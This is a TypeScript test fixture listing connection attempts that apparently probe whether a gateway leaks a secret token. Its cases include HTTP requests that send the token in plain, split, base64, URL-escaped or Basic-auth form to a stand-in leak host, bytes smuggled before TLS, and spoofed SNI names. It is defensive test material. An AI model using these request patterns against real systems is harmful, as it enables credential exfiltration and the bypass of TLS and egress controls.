/** A way to a host of the test: names, certificates, plain text. */
export interface ConnectionAttempt {
  name: string;
  host?: string;
  /** Whose port. Default: the host of the secret. */
  at?: 'secret' | 'leak' | 'leak-tls' | 'other' | 'plain';
  tls?: boolean;
  trusts?: boolean;
  sni?: string;
  most?: '1.2';
  before?: string;
  reads?: boolean;
  alpn?: string[];
  send?: string[];
}

const KEY = 'GET / HTTP/1.1\r\nHost: {HOST}\r\nX-Key: {TOKEN}\r\n\r\n';
const PLAIN: Partial<ConnectionAttempt> = { tls: false };
const of = (name: string, more: Partial<ConnectionAttempt>): ConnectionAttempt => ({ name: `way: ${name}`, ...more });
const [HOST, LEAK, OTHER] = ['api.example.test', 'leak.example.test', 'other.example.test'];

export const connections: ConnectionAttempt[] = [
  of('plain text to the host', PLAIN),
  of('plain text to the host, cut', {
    ...PLAIN,
    send: ['GET / HTTP/1.1\r\nX-Key: {TOKEN.half}', '{TOKEN.rest}\r\n\r\n'],
  }),
  of('plain text to the host in base64', { ...PLAIN, send: ['GET / HTTP/1.1\r\nX: {TOKEN.b64}\r\n\r\n'] }),
  of('plain text to another host', { ...PLAIN, host: LEAK, at: 'leak' }),
  of('plain text to another host with the Host of the secret', { ...PLAIN, host: LEAK, at: 'leak', send: [KEY] }),
  of('plain text to another host, escaped', {
    ...PLAIN,
    host: LEAK,
    at: 'leak',
    send: ['GET /{TOKEN.url} HTTP/1.1\r\nHost: {LEAK}\r\n\r\n'],
  }),
  of('plain text to another host in small letters', {
    ...PLAIN,
    host: LEAK,
    at: 'leak',
    send: ['GET /{TOKEN.lower} HTTP/1.1\r\nHost: {LEAK}\r\n\r\n'],
  }),
  of('plain text to another host in Basic', {
    ...PLAIN,
    host: LEAK,
    at: 'leak',
    send: ['GET / HTTP/1.1\r\nHost: {LEAK}\r\nAuthorization: Basic {TOKEN.basic}\r\n\r\n'],
  }),
  of('plain text to a port of the host without TLS', { ...PLAIN, at: 'plain' }),
  of('what a host says in plain text', {
    ...PLAIN,
    at: 'plain',
    send: ['GET /last HTTP/1.1\r\nHost: {PLAIN}\r\n\r\n'],
  }),
  of('what a host says in plain text, byte by byte', {
    ...PLAIN,
    at: 'plain',
    send: ['GET /slow HTTP/1.1\r\nHost: {PLAIN}\r\n\r\n'],
  }),
  of('a first byte of TLS, then plain text', { ...PLAIN, host: LEAK, at: 'leak', send: ['\x16', KEY] }),
  of('a first byte of TLS to the host, then plain text', { ...PLAIN, send: ['\x16', KEY] }),
  of('a first byte that comes alone', { ...PLAIN, send: ['G', KEY.slice(1)] }),
  of('a line before TLS', { before: 'PROXY TCP4 127.0.0.1 127.0.0.1 1 2\r\n' }),
  of('a byte before TLS', { before: '\0' }),
  of('a request before TLS', {
    before: 'OPTIONS * HTTP/1.1\r\nHost: {HOST}\r\nUpgrade: TLS/1.0\r\nConnection: Upgrade\r\n\r\n',
  }),
  of('STARTTLS', { before: 'STARTTLS\r\n', reads: true }),
  of('CONNECT in plain text', { before: 'CONNECT {LEAK} HTTP/1.1\r\nHost: {LEAK}\r\n\r\n', reads: true }),
  of('TLS of another name', { sni: LEAK, trusts: false }),
  of('TLS of a name that nobody has', { sni: 'evil.example.org', trusts: false }),
  of('TLS without a name', { sni: '', trusts: false }),
  of('TLS of an address', { sni: '127.0.0.1', trusts: false }),
  of('TLS of another host of secrets', { sni: OTHER, trusts: false }),
  of('TLS of a name below', { sni: `x.${HOST}`, trusts: false }),
  of('TLS of a name with a dot', { sni: `${HOST}.`, trusts: false }),
  of('TLS of a name in capital letters', { sni: HOST.toUpperCase(), trusts: false }),
  of('TLS of another name to another host of secrets', { host: OTHER, at: 'other', sni: HOST, trusts: false }),
  of('the secret to another host of secrets', {
    host: OTHER,
    at: 'other',
    send: ['GET / HTTP/1.1\r\nHost: {OTHERHOST}\r\nX-Key: {TOKEN}\r\n\r\n'],
  }),
  of('the secret to another host of secrets by Host', { host: OTHER, at: 'other' }),
  of('TLS to a host without secrets', { host: LEAK, at: 'leak-tls', trusts: false }),
  of('TLS to a host without secrets by the name of one', { host: LEAK, at: 'leak-tls', sni: HOST, trusts: false }),
  of('TLS 1.2', { most: '1.2' }),
  of('no protocol that is known', { alpn: ['acme-tls/1'] }),
  of('HTTP/2 that the host does not speak', { alpn: ['h2'] }),
  of('HTTP/1.1 over a connection of HTTP/2', { alpn: ['h2', 'http/1.1'] }),
  of('the address of the host', { ...PLAIN, host: '127.0.0.1' }),
  of('the address of the host in TLS', { host: '127.0.0.1', sni: HOST, trusts: false }),
  of('another address of the loopback', { host: '127.0.0.2', sni: HOST, trusts: false }),
  of('the address of the gate', { host: '198.18.0.1', sni: HOST, trusts: false }),
  of('the last address of the gate', { host: '198.19.255.254', sni: HOST, trusts: false }),
  of('the address of the gate in plain text', { ...PLAIN, host: '198.18.0.1' }),
  of('a name that the system maps', { host: 'rebound.example.test' }),
];
